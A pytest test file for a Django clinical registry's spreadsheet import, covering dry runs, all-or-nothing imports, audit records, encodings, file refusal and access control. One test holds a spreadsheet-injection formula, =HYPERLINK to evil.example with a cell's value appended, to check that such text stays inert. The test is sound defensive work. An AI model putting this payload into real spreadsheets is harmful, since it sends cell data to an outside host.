"""Spreadsheet import: a dry run naming every bad cell, an atomic import (all rows or
none) through crf.batch audited with source `import`, re-import changing nothing, bad
files refused with a clear message."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import CommandError, call_command
from openpyxl import Workbook, load_workbook

from crf import access
from crf.batch import Item, NewCase, batch_save
from crf.models import Case, Demographics, Identity, Treatment
from exports.imports import columns, sheet_import
from registry.audit import Source

HEADER = columns.column_names(Demographics)


@pytest.fixture(autouse=True)
def upload_folder(settings, tmp_path):
    settings.REGISTRY_IMPORT_ROOT = tmp_path / "imports"


def many_cases(centre, n):
    items = []
    for i in range(n):
        case = NewCase(centre_id=centre.pk)
        items.append(
            Item(case, Identity, {"local_identifier": f"L{i}", "initials": "AB",
                                  "date_of_birth": dt.date(1950, 1, 1)})
        )  # fmt: skip
    batch_save(actor=access.SYSTEM, items=items, source=Source.SYSTEM)
    return dict(
        Identity.objects.filter(case__centre=centre).values_list("local_identifier", "case__code")
    )


def demographics_csv(rows, header=HEADER, encoding="utf-8", delimiter=","):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header, delimiter=delimiter, lineterminator="\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: row.get(k, "") for k in header})
    return out.getvalue().encode(encoding)


def sheet_rows(codes, bad_at=None):
    rows = []
    for i, (local, code) in enumerate(sorted(codes.items())):
        row = {
            "sex": "female" if i % 2 else "male",
            "le_diagnosis_date": "2015-03-0" + str(1 + i % 9),
        }
        if i % 2:
            row["case_code"] = code
        else:
            row["local_identifier"] = local
        if i == bad_at:
            row["sex"] = "martian"
        rows.append(row)
    return rows


def run(actor_user, data, section="demographics", name="sheet.csv", dry=False, **kw):
    actor = access.actor_for(actor_user, access.Scope.READ_WRITE)
    do = sheet_import.check if dry else sheet_import.apply
    return do(actor=actor, section=section, filename=name, data=data, **kw)


def test_one_bad_row_among_1000_writes_nothing_then_the_corrected_file_imports_once(
    investigator_a, centre_a
):
    codes = many_cases(centre_a, 1000)
    bad = demographics_csv(sheet_rows(codes, bad_at=500))

    report = run(investigator_a, bad)
    assert not report.applied and report.rows == 1000
    [problem] = report.errors
    assert (problem.row, problem.column, problem.value) == (502, "sex", "martian")
    assert "valid choice" in problem.message
    assert not Demographics.objects.exists()

    good = demographics_csv(sheet_rows(codes))
    dry = run(investigator_a, good, dry=True)
    assert dry.ok and (dry.created, dry.updated, dry.unchanged) == (1000, 0, 0)
    assert not Demographics.objects.exists()

    done = run(investigator_a, good)
    assert done.applied and Demographics.objects.count() == 1000
    events = Demographics.pgh_event_model.objects
    contexts = events.values_list("pgh_context", flat=True)
    assert len(contexts) == 1000
    assert {(c["source"], c["file_sha256"], c["user"]) for c in contexts} == {
        (Source.IMPORT, done.sha256, investigator_a.pk)
    }

    versions = dict(Case.objects.values_list("code", "version"))
    again = run(investigator_a, good)
    assert again.applied and (again.created, again.updated, again.unchanged) == (0, 0, 1000)
    assert dict(Case.objects.values_list("code", "version")) == versions
    assert events.count() == 1000


def test_a_row_of_another_centre_is_an_error_naming_the_row(investigator_a, case_a, case_b):
    data = demographics_csv([{"case_code": case_a.code, "sex": "male"},
                             {"case_code": case_b.code, "sex": "male"}])  # fmt: skip
    report = run(investigator_a, data)

    assert [(p.row, p.column, p.rule) for p in report.errors] == [
        (3, "case_code", "import.case_unknown")
    ]
    assert not Demographics.objects.exists()


def test_repeating_rows_are_created_once_and_duplicates_refused(investigator_a, case_a):
    header = columns.column_names(Treatment)
    rows = [
        {"case_code": case_a.code, "agent": "hydroxychloroquine", "started_on": "2019-01-01"},
        {"case_code": case_a.code, "agent": "Azacitidine", "started_on": "2020-01-01"},
    ]
    data = demographics_csv(rows, header=header)

    dry = run(investigator_a, data, section="treatment", dry=True)
    assert dry.ok and dry.created == 2, dry.errors
    first = run(investigator_a, data, section="treatment", acknowledged=dry.warning_codes)
    assert first.applied and first.created == 2, first.errors
    assert sorted(Treatment.objects.values_list("agent", flat=True)) == [
        "azacitidine",
        "hydroxychloroquine",
    ]
    again = run(investigator_a, data, section="treatment", acknowledged=first.warning_codes)
    assert again.applied and again.unchanged == 2 and Treatment.objects.count() == 2

    twice = demographics_csv([rows[0], rows[0]], header=header)
    report = run(investigator_a, twice, section="treatment")
    assert [(p.row, p.rule) for p in report.errors] == [(3, "import.duplicate")]


def test_windows_1252_and_semicolons_are_read(investigator_a, case_a):
    data = demographics_csv(
        [{"case_code": case_a.code, "sex": "female", "death_cause_detail": "hépatite"}],
        encoding="cp1252",
        delimiter=";",
    )
    report = run(investigator_a, data)

    assert report.applied, (report.file_errors, report.errors)
    assert Demographics.objects.get().death_cause_detail == "hépatite"


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        ("é".encode("utf-16"), "x.csv", "UTF-16"),
        (b"case_code,sex\n", "x.csv", "Missing columns"),
        (b"", "x.csv", "empty"),
        (b"PK\x03\x04garbage", "x.xlsx", "not a readable XLSX"),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(investigator_a, case_a, data, name, expected):
    report = run(investigator_a, data, name=name)

    assert not report.applied and any(expected in m for m in report.file_errors), report.file_errors


def test_a_file_over_the_limit_is_refused(investigator_a, case_a, settings):
    settings.REGISTRY_IMPORT_MAX_BYTES = 100
    report = run(investigator_a, demographics_csv([{"case_code": case_a.code, "sex": "male"}] * 5))
    assert "over the limit" in report.file_errors[0]


def test_a_sheet_of_another_section_is_refused(investigator_a, case_a):
    data = demographics_csv([], header=columns.column_names(Treatment))
    report = run(investigator_a, data)
    assert "template of section 'treatment'" in report.file_errors[0]


def workbook(header, rows, title="demographics"):
    book = Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append(header)
    for row in rows:
        sheet.append([row.get(h) for h in header])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_xlsx_with_native_dates_imports_and_formulas_are_refused(investigator_a, case_a):
    rows = [
        {"case_code": case_a.code, "sex": "Female", "le_diagnosis_date": dt.datetime(2015, 3, 1)}
    ]
    report = run(investigator_a, workbook(HEADER, rows), name="s.xlsx")
    assert report.applied, (report.file_errors, report.errors)
    assert Demographics.objects.get().le_diagnosis_date == dt.date(2015, 3, 1)

    rows[0]["death_cause_detail"] = "=1+1"
    refused = run(investigator_a, workbook(HEADER, rows), name="s.xlsx")
    assert "formula" in refused.file_errors[0] and "death_cause_detail" in refused.file_errors[0]
    wrong = run(investigator_a, workbook(HEADER, [], title="treatment"), name="s.xlsx")
    assert "template of section 'treatment'" in wrong.file_errors[0]


def test_the_templates_carry_labels_and_code_lists(db):
    book = load_workbook(io.BytesIO(columns.xlsx_template(Demographics)))
    sheet = book["demographics"]
    header = [c.value for c in sheet[1]]
    assert header == HEADER
    sex = sheet.cell(row=1, column=header.index("sex") + 1)
    assert "male" in sex.comment.text
    assert any("codes" in v.formula1 for v in sheet.data_validations.dataValidation)
    assert columns.csv_template(Demographics).decode().strip() == ",".join(HEADER)


def test_the_command_dry_runs_and_imports(investigator_a, case_a, tmp_path, capsys):
    path = tmp_path / "d.csv"
    path.write_bytes(demographics_csv([{"case_code": case_a.code, "sex": "male"}]))

    call_command(
        "import_sheet", str(path), "--section", "demographics", "--user", "inv_a", "--dry-run"
    )
    assert "Dry run" in capsys.readouterr().out and not Demographics.objects.exists()
    call_command("import_sheet", str(path), "--section", "demographics", "--user", "inv_a")
    assert Demographics.objects.get().sex == "male"

    path.write_bytes(demographics_csv([{"case_code": case_a.code, "sex": "martian"}]))
    with pytest.raises(CommandError, match="Nothing was written"):
        call_command("import_sheet", str(path), "--section", "demographics", "--user", "inv_a")


# ---- the pages ----


def upload(client, data, name="d.csv", section="demographics"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        "/imports/",
        {"section": section, "file": SimpleUploadedFile(name, data), "reason": ""},
    )


def test_the_page_previews_then_imports_on_confirmation(client, investigator_a, case_a):
    client.force_login(investigator_a)
    data = demographics_csv([{"case_code": case_a.code, "sex": "female"}])

    preview = upload(client, data)
    assert preview.status_code == 200 and preview.context["report"].created == 1
    assert not Demographics.objects.exists()
    done = client.post(
        "/imports/confirm/",
        {
            "sha256": preview.context["report"].sha256,
            "section": "demographics",
            "filename": "d.csv",
        },
    )
    assert done.status_code == 302
    assert Demographics.objects.get().sex == "female"


def test_the_page_shows_each_bad_cell(client, investigator_a, case_a):
    client.force_login(investigator_a)
    page = upload(client, demographics_csv([{"case_code": case_a.code, "sex": "martian"}]))

    html = page.content.decode()
    assert "martian" in html and "valid choice" in html
    assert 'action="/imports/confirm/"' not in html


def test_someone_elses_upload_cannot_be_confirmed(client, investigator_a, investigator_b, case_a):
    client.force_login(investigator_a)
    preview = upload(client, demographics_csv([{"case_code": case_a.code, "sex": "female"}]))
    client.force_login(investigator_b)

    answer = client.post(
        "/imports/confirm/",
        {"sha256": preview.context["report"].sha256, "section": "demographics"},
    )
    assert answer.status_code == 302 and not Demographics.objects.exists()


def test_only_investigators_import(client, coordinator):
    client.force_login(coordinator)
    assert client.get("/imports/").status_code == 403
    assert client.get("/imports/templates/demographics.xlsx").status_code == 200


# ---- the case sheet: new patients ----

CASE_HEADER = columns.column_names(Case)


def test_the_case_sheet_creates_patients_once_then_updates_them(investigator_a, centre_a):
    rows = [
        {"local_identifier": f"NEW-{i}", "group": "case", "initials": "AB",
         "date_of_birth": "1950-01-0" + str(i + 1), "consent": "yes"}
        for i in range(3)
    ]  # fmt: skip
    data = demographics_csv(rows, header=CASE_HEADER)

    dry = run(investigator_a, data, section="case", dry=True)
    assert dry.ok and dry.created == 3 and not Case.objects.exists(), dry.errors
    done = run(investigator_a, data, section="case", acknowledged=dry.warning_codes)
    assert done.applied, done.errors
    identities = Identity.objects.filter(case__centre=centre_a)
    assert sorted(identities.values_list("local_identifier", flat=True)) == [
        "NEW-0",
        "NEW-1",
        "NEW-2",
    ]
    assert set(Case.objects.values_list("consent", "group")) == {("yes", "case")}

    again = run(investigator_a, data, section="case")
    assert again.applied and again.unchanged == 3 and Case.objects.count() == 3

    rows[1]["consent"] = "no"
    refused = run(investigator_a, demographics_csv(rows, header=CASE_HEADER), section="case")
    assert [(p.row, p.column, p.rule) for p in refused.errors] == [(3, "consent", "consent.no")]
    changed = run(
        investigator_a,
        demographics_csv(rows, header=CASE_HEADER),
        section="case",
        acknowledged=["consent.no"],
    )
    assert changed.applied and (changed.updated, changed.unchanged) == (1, 2), changed.errors
    assert Case.objects.get(identity__local_identifier="NEW-1").consent == "no"


def test_the_case_sheet_refuses_a_change_of_group_and_a_new_patient_without_group(
    investigator_a, case_a
):
    rows = [{"case_code": case_a.code, "group": "control"}, {"local_identifier": "X9"}]
    report = run(investigator_a, demographics_csv(rows, header=CASE_HEADER), section="case")

    assert [(p.row, p.column, p.rule) for p in report.errors] == [
        (2, "group", "case.group"),
        (3, "group", "case.group"),
    ]
    assert Case.objects.count() == 1


def test_a_wrong_type_names_its_row_and_column(investigator_a, case_a):
    data = demographics_csv([{"case_code": case_a.code, "le_diagnosis_date": "yesterday"}])
    report = run(investigator_a, data)

    [problem] = report.errors
    assert (problem.row, problem.column, problem.value) == (2, "le_diagnosis_date", "yesterday")
    assert "date" in problem.message.lower() and not Demographics.objects.exists()


def test_formula_text_in_a_csv_is_kept_as_inert_text(investigator_a, case_a):
    """A CSV has no formulas: "=HYPERLINK(…)" is stored as the text typed, never evaluated;
    the exports neutralise it (tests/exports/test_pipeline.py, allowed free text)."""
    injected = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    data = demographics_csv([{"case_code": case_a.code, "death_cause_detail": injected}])
    report = run(investigator_a, data)

    assert report.applied, (report.file_errors, report.errors)
    assert Demographics.objects.get().death_cause_detail == injected


def test_the_page_refuses_a_file_over_the_limit_before_reading_it(
    client, investigator_a, case_a, settings
):
    settings.REGISTRY_IMPORT_MAX_BYTES = 1000
    client.force_login(investigator_a)
    rows = [{"case_code": case_a.code, "sex": "male", "death_cause_detail": "x" * 90}] * 60
    data = demographics_csv(rows)
    assert len(data) > 5000

    page = upload(client, data)
    assert page.status_code == 200 and "over the limit" in page.content.decode()
    assert "report" not in page.context
    assert not Demographics.objects.exists()
    assert not any(settings.REGISTRY_IMPORT_ROOT.rglob("*"))  # nothing kept


@pytest.mark.parametrize("section", ["demographics", "case"])
def test_the_queries_of_a_dry_run_and_an_import_do_not_grow_with_the_rows(
    investigator_a, centre_a, section
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    codes = sorted(many_cases(centre_a, 44).items())
    counted = []
    access.actor_for(investigator_a)  # the user's roles, read once and kept on the user
    for chosen in (dict(codes[:4]), dict(codes[4:])):  # other patients: all rows change
        wanted = len(chosen)
        if section == "case":  # known patients, by code and by local identifier
            rows = [{"case_code": c} if i % 2 else {"local_identifier": local}
                    for i, (local, c) in enumerate(chosen.items())]  # fmt: skip
            for row in rows:
                row["consent"] = "yes"
            data = demographics_csv(rows, header=CASE_HEADER)
        else:
            data = demographics_csv(sheet_rows(chosen))
        with CaptureQueriesContext(connection) as queries:
            dry = run(investigator_a, data, section=section, dry=True)
            done = run(investigator_a, data, section=section, acknowledged=dry.warning_codes)
        assert done.applied and done.updated + done.created == wanted, done.errors
        counted.append(len(queries))
    assert counted[0] == counted[1]


def test_a_nul_character_deep_in_a_csv_names_its_row_and_column(investigator_a, centre_a):
    """Past the first 4 kB the file reads as text; the NUL reaches the write contract,
    which refuses it (PostgreSQL cannot store it) like any other unreadable value."""
    codes = sorted(many_cases(centre_a, 60).values())
    rows = [{"case_code": code, "death_cause_detail": "x" * 100} for code in codes]
    rows[-1]["death_cause_detail"] = "a\x00b"
    report = run(investigator_a, demographics_csv(rows))

    assert not report.applied
    assert [(p.row, p.column, p.rule) for p in report.errors] == [
        (61, "death_cause_detail", "field.invalid")
    ]
    assert not Demographics.objects.exists()
